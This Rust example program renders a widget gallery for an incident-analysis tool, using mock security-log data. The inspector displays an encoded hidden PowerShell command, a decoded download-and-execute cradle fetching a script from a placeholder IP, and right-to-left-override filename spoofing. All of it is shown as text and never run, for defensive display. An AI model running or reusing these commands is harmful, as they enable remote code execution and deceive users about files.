//! Every widget of the window in one place, to be looked at beside the mock-ups.
//!
//! `cargo run --example gallery -- light` starts light; F2 changes the theme.

#![expect(clippy::single_range_in_vec_init, reason = "a list of one marked range is meant")]

use eframe::egui::{
    self, Align, CentralPanel, Color32, Frame, Key, Margin, Panel, Rect, Sense, ThemePreference,
    Ui, pos2, vec2,
};
use spawnscope::model::{ActivityKind, Severity};
use spawnscope::ui::theme::icon::{self, Icon};
use spawnscope::ui::theme::{self, activity_icon, font, space, tokens};
use spawnscope::ui::widgets::{
    BadgeState, Button, CodeBlock, Elide, Fact, Look, Outline, Run, SectionRight, Segment, Size,
    chip, chip_colors, disabled_reason, elided_label, icon_button, key_cap, layer_circle, link,
    menu_item, ok_chip_colors, paint_elided, paint_icon, paint_layer_circle, paint_severity_chip,
    paint_step_badge, paint_tag, paint_text, primary_button, progress_bar, raised_button,
    row_focus, section_header, segments, severity_chip, step_badge, switch_row, tag, text_field,
    tick_box, tooltip,
};

fn main() -> eframe::Result {
    let light = std::env::args().any(|argument| argument == "light");
    let options = eframe::NativeOptions {
        viewport: egui::ViewportBuilder::default()
            .with_title("Spawnscope gallery")
            .with_inner_size([1240.0, 900.0]),
        ..Default::default()
    };
    let start = move |creation: &eframe::CreationContext<'_>| {
        theme::install(&creation.egui_ctx);
        let theme = if light { ThemePreference::Light } else { ThemePreference::Dark };
        creation.egui_ctx.set_theme(theme);
        Ok::<Box<dyn eframe::App>, _>(Box::new(Gallery::default()))
    };
    eframe::run_native("Spawnscope gallery", options, Box::new(start))
}

#[derive(Default)]
struct Gallery {
    verdict: Option<usize>,
    field: String,
    ticked: bool,
}

impl eframe::App for Gallery {
    fn ui(&mut self, ui: &mut Ui, _frame: &mut eframe::Frame) {
        if ui.input(|input| input.key_pressed(Key::F2)) {
            let dark = ui.visuals().dark_mode;
            ui.ctx().set_theme(if dark { ThemePreference::Light } else { ThemePreference::Dark });
        }
        let tokens = tokens(ui);
        let side = Frame::new().fill(tokens.panel).inner_margin(Margin::symmetric(16, 12));
        Panel::right("inspector").exact_size(388.0).frame(side).show(ui, |ui| self.inspector(ui));
        let side = Frame::new().fill(tokens.panel).inner_margin(12);
        Panel::left("left").exact_size(276.0).frame(side).show(ui, |ui| self.left(ui));
        let centre = Frame::new().fill(tokens.canvas).inner_margin(12);
        CentralPanel::default().frame(centre).show(ui, |ui| {
            egui::ScrollArea::vertical().auto_shrink(false).show(ui, centre_ui);
        });
    }
}

impl Gallery {
    fn inspector(&mut self, ui: &mut Ui) {
        let tokens = tokens(ui);
        let copy = SectionRight::Command(icon::COPY, "Copy");
        if self.verdict.is_none() {
            self.verdict = Some(0);
        }
        segments(ui, "Verdict", &verdicts(ui), &mut self.verdict);
        section_header(ui, "Command line as logged", &[copy]);
        let long =
            format!("powershell.exe -nop -w hidden -enc JABzAD0ATg{}", "BlAHcALQBPAGIA".repeat(97));
        CodeBlock::new("Command line", &long).show(ui);
        section_header(ui, "Decoded, 2 layers", &[copy, SectionRight::Words("never executed")]);
        let layer = "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEA…'))";
        let start = layer.find("'H4").unwrap_or(0);
        ui.horizontal(|ui| {
            layer_circle(ui, 1);
            elided_label(ui, &Run::new("Base64, UTF-16LE", font::UI_MEDIUM, tokens.text));
            elided_label(ui, &Run::new("from -enc, bytes 35–1,410", font::SMALL, tokens.text3));
        });
        let marks = [start..layer.len() - 2];
        ui.indent("layer", |ui| CodeBlock::new("Layer 1", layer).marks(&marks).show(ui));
        let second = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')\n# -> != 0x41 ===> www // ligatures stay off\ntab\there \u{202e}fdp.exe\u{202c}";
        let url = second.find("http").unwrap_or(0);
        let links = [url..url + 26];
        ui.indent("layer2", |ui| {
            CodeBlock::new("Layer 2", second).indicators(&links).rows(4).show(ui)
        });
        ui.spacing_mut().item_spacing.y = 0.0;
        section_header(ui, "Matched rule", &[SectionRight::Command(icon::COPY, "Sigma")]);
        Fact::new("Raised", "to critical: hidden, encoded, downloads").weak().show(ui);
        let parent = r"C:\Users\mlopez\AppData\Roaming\Zoom\bin\Zoom.exe";
        Fact::new("ParentImage", parent).mono().marks(&[40..49]).show(ui);
        let image = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        Fact::new("Image", image).mono().marks(&[42..57]).show(ui);
        Fact::new("CommandLine", &long).mono().marks(&[20..34]).show(ui);
        section_header(ui, "Hashes", &[]);
        let hash = "9785001b0dcf755eddb8af294a373ab0b87b2498660f724e76c4d53f9c217c7a";
        Fact::new("SHA-256", hash).mono().copies().show(ui);
        Fact::new("Middle", hash).mono().elide(Elide::Middle).show(ui);
        Fact::new("Left, time", parent).mono().elide(Elide::Left).right("14 ms later").show(ui);
        Fact::new("Cause", "Chunk checksum does not match").show(ui);
        Fact::new("Hidden", "in\u{200b}voice\u{202e}fdp.exe").mono().show(ui);
        Fact::new("Other scripts", "日本語 привет العربية").show(ui);
        section_header(ui, "Notes", &[SectionRight::Link("12 files")]);
        text_field(ui, &mut self.field, "Add a note. It goes into the report.", "Notes");
    }

    fn left(&mut self, ui: &mut Ui) {
        let tokens = tokens(ui);
        section_header(ui, "Attack chain", &[SectionRight::Words("7 of 8 observed")]);
        ui.spacing_mut().item_spacing.y = 0.0;
        let steps = [
            "Zoom starts",
            "Initial access or lure",
            "Interpreter spawned",
            "Commands, scripts",
            "Reconnaissance",
            "Persistence",
            "Remote access",
            "Lateral movement",
            "Exfiltration",
        ];
        for (index, name) in steps.into_iter().enumerate() {
            chain_row(ui, index, name);
        }
        ui.add_space(12.0);
        ui.spacing_mut().item_spacing.y = 4.0;
        ui.horizontal(|ui| {
            for severity in Severity::WORST_FIRST {
                severity_chip(ui, severity);
            }
        });
        ui.horizontal(|ui| {
            chip(ui, "Benign", ok_chip_colors(tokens));
            chip(ui, "Read in part", chip_colors(tokens, Severity::Medium));
            key_cap(ui, "Ctrl K");
            key_cap(ui, "/");
        });
        ui.horizontal(|ui| {
            tag(ui, "Zoom helper", Outline::Solid);
            tag(ui, "Decoded", Outline::Strong);
            tag(ui, "Not in these logs", Outline::Dashed);
        });
        ui.horizontal(|ui| {
            for state in [
                BadgeState::Observed,
                BadgeState::Mark,
                BadgeState::NotObserved,
                BadgeState::Unknown,
            ] {
                step_badge(ui, 3, state, "Step 3");
            }
        });
        progress_bar(ui, 250.0, 0.43, "Reading 12 files");
        ui.add_space(8.0);
        tick_box(ui, &mut self.ticked, "Summary");
        switch_row(ui, &mut self.ticked, "Add local time, UTC+01:00");
        ui.separator();
        let popup = Frame::popup(ui.style());
        popup.show(ui, |ui| {
            menu_item(ui, Some(icon::FOLDER_OPEN), "Open folder", "Ctrl O");
            menu_item(ui, None, "Open files", "Ctrl Shift O");
            ui.add_enabled_ui(false, |ui| {
                menu_item(ui, Some(icon::EXPORT), "Save Markdown", "Ctrl E")
            });
        });
        ui.menu_button("egui menu", |ui| {
            menu_item(ui, Some(icon::FOLDER_OPEN), "Open folder", "Ctrl O");
            menu_item(ui, None, "Open files", "Ctrl Shift O");
        });
        egui::ScrollArea::vertical().max_height(110.0).auto_shrink(false).show(ui, |ui| {
            for line in 0..40 {
                ui.label(format!("Line {line} of a long list"));
            }
        });
    }
}

fn verdicts(ui: &Ui) -> [Segment<'static>; 4] {
    let tokens = tokens(ui);
    let segment = |text, icon, colors| Segment { text, icon: Some(icon), colors };
    [
        segment("Malicious", icon::PROHIBIT.filled(), chip_colors(tokens, Severity::Critical)),
        segment("Suspicious", icon::WARNING.filled(), chip_colors(tokens, Severity::High)),
        segment("Benign", icon::CHECK_CIRCLE.filled(), ok_chip_colors(tokens)),
        segment("Unknown", icon::QUESTION.filled(), chip_colors(tokens, Severity::Informational)),
    ]
}

fn chain_row(ui: &mut Ui, index: usize, name: &str) {
    let tokens = tokens(ui);
    let step = u8::try_from(index + 1).unwrap_or(8).min(8);
    let (rect, _) = ui.allocate_exact_size(vec2(ui.available_width(), space::ROW), Sense::hover());
    let middle = rect.center().y;
    let (state, right, color) = match index {
        1 => (BadgeState::Unknown, "Sysmon off", tokens.medium.text),
        8 => (BadgeState::NotObserved, "not observed", tokens.text3),
        _ => (BadgeState::Observed, "14:21:07", tokens.text2),
    };
    let painter = ui.painter();
    paint_step_badge(painter, pos2(rect.left() + 9.0, middle), tokens, step, state);
    let observed = state == BadgeState::Observed;
    let words = if observed { tokens.text } else { tokens.text2 };
    paint_text(painter, pos2(rect.left() + 26.0, middle), Align::Min, name, font::UI, words);
    let face = if observed { font::MONO_ROW } else { font::SMALL };
    paint_text(painter, rect.right_center(), Align::Max, right, face, color);
    if observed {
        let at = pos2(rect.right() - 66.0, middle);
        paint_text(painter, at, Align::Max, "61", font::MONO_ROW, tokens.text2);
    }
}

fn centre_ui(ui: &mut Ui) {
    buttons(ui);
    ui.add_space(8.0);
    ui.spacing_mut().item_spacing.y = 0.0;
    for row in 0..4 {
        tree_row(ui, row);
    }
    ui.spacing_mut().item_spacing.y = 4.0;
    let faces = [
        ("Inspector title 15/20", font::INSPECTOR_TITLE),
        ("Drop Windows logs here", font::START_TITLE),
        ("Incident report IR-2026-0412", font::REPORT_H1),
        ("Scope and limits", font::REPORT_H2),
        ("Sysmon on LAPTOP-7F2K was not logging from 14:02:11", font::REPORT),
        ("Interface 13/16, small below", font::UI),
        ("14:21:07.412 to 15:02:55.090, ran for 41 min 48 s", font::SMALL),
        ("13:30 13:45 14:00", font::AXIS),
        ("-> != 0x41 ===> www", font::MONO_ROW),
    ];
    let color = tokens(ui).text;
    for (text, face) in faces {
        elided_label(ui, &Run::new(text, face, color));
    }
    icons(ui);
}

fn buttons(ui: &mut Ui) {
    ui.horizontal(|ui| {
        let open = Button::new(Look::Primary, "Open folder").icon(icon::FOLDER_OPEN);
        let first = ui.add(open.key("Ctrl O").size(Size::Large));
        if ui.memory(|memory| memory.focused().is_none()) {
            first.request_focus();
        }
        ui.add(Button::new(Look::Raised, "Open files").icon(icon::FILE_PLUS).size(Size::Large));
        ui.add(
            Button::new(Look::Raised, "Open sample incident").icon(icon::FLASK).size(Size::Large),
        );
    });
    ui.horizontal(|ui| {
        ui.add(Button::new(Look::Raised, "Open").icon(icon::FOLDER_OPEN).caret());
        ui.add(Button::new(Look::Raised, "LAPTOP-7F2K").icon(icon::DESKTOP).caret());
        primary_button(ui, icon::EXPORT, "Export report", None);
        ui.add_enabled_ui(false, |ui| {
            disabled_reason(raised_button(ui, icon::EXPORT, "Export report"), "No logs are open");
        });
    });
    ui.horizontal(|ui| {
        ui.add(Button::new(Look::Raised, "Copy").icon(icon::COPY).size(Size::Small));
        ui.add(Button::new(Look::Raised, "HTML").icon(icon::FILE_HTML).size(Size::Small));
        ui.add(Button::new(Look::Raised, "JSON").icon(icon::BRACKETS_CURLY).size(Size::Small));
        let save = Button::new(Look::Primary, "Save Markdown").icon(icon::FILE_MD);
        ui.add(save.key("Ctrl E").size(Size::Small));
        ui.add(Button::new(Look::Ghost, "Expand all").icon(icon::ARROWS_OUT).size(Size::Small));
        icon_button(ui, icon::SLIDERS_HORIZONTAL, "How the list is shown");
        tooltip(link(ui, "3 more", font::UI), "Three more things are not known");
    });
}

fn tree_row(ui: &mut Ui, index: usize) {
    let tokens = tokens(ui);
    let (rect, _) = ui.allocate_exact_size(vec2(ui.available_width(), space::ROW), Sense::hover());
    let painter = ui.painter_at(rect);
    let middle = rect.center().y;
    let at = |x: f32| pos2(rect.left() + x, middle);
    if index == 1 {
        painter.rect_filled(rect, 0.0, tokens.select);
    }
    let (icon, color): (Icon, Color32) = match index {
        0 => (icon::VIDEO_CAMERA.filled(), tokens.text),
        1 => (icon::TERMINAL_WINDOW.filled(), tokens.critical.fill),
        2 => (icon::APP_WINDOW, tokens.text2),
        _ => (icon::CIRCLE_DASHED, tokens.text3),
    };
    paint_icon(&painter, at(10.0), icon::CARET_DOWN, space::ICON_CARET, tokens.text2);
    paint_icon(&painter, at(30.0), icon, space::ICON, color);
    let mut x = if index == 3 {
        paint_tag(&painter, at(44.0), tokens, "explorer.exe", Outline::DashedName).right()
    } else {
        let names = ["Zoom.exe", "powershell.exe", "CptHost.exe"];
        let name = names.get(index).copied().unwrap_or_default();
        paint_text(&painter, at(44.0), Align::Min, name, font::UI_STRONG, tokens.text).right()
    };
    let pid = paint_text(
        &painter,
        pos2(x + 6.0, middle),
        Align::Min,
        "11872",
        font::MONO_RECORD,
        tokens.text3,
    );
    x = pid.right() + 8.0;
    if index != 1 {
        let (text, outline) = match index {
            0 => ("Usual path, signer not logged", Outline::Solid),
            2 => ("Decoded", Outline::Strong),
            _ => ("Not in these logs", Outline::Dashed),
        };
        x = paint_tag(&painter, pos2(x, middle), tokens, text, outline).right() + 8.0;
    }
    let mut command = rect;
    command.min.x = x;
    command.max.x -= 230.0;
    let text = "-nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8A";
    paint_elided(&painter, command, text, font::MONO_ROW, tokens.text2);
    let right = rect.right();
    let globe = Rect::from_center_size(pos2(right - 210.0, middle), vec2(14.0, 14.0));
    paint_icon(
        &painter,
        globe.center(),
        activity_icon(ActivityKind::Network),
        14.0,
        tokens.network,
    );
    paint_text(
        &painter,
        pos2(right - 200.0, middle),
        Align::Min,
        "2",
        font::MONO_ROW,
        tokens.network,
    );
    paint_step_badge(&painter, pos2(right - 160.0, middle), tokens, 3, BadgeState::Mark);
    paint_severity_chip(&painter, pos2(right - 140.0, middle), tokens, Severity::Critical);
    paint_text(
        &painter,
        pos2(right - 4.0, middle),
        Align::Max,
        "14:21:07",
        font::MONO_ROW,
        tokens.text2,
    );
    if index == 1 {
        row_focus(&painter, rect, tokens.focus);
    }
    if index == 2 {
        paint_layer_circle(&painter, pos2(right - 80.0, middle), tokens, 1);
    }
}

fn icons(ui: &mut Ui) {
    let color = tokens(ui).text2;
    ui.horizontal_wrapped(|ui| {
        for icon in icon::ALL {
            for icon in [*icon, icon.filled()] {
                let (rect, _) = ui.allocate_exact_size(vec2(16.0, 16.0), Sense::hover());
                paint_icon(ui.painter(), rect.center(), icon, 16.0, color);
            }
        }
    });
}
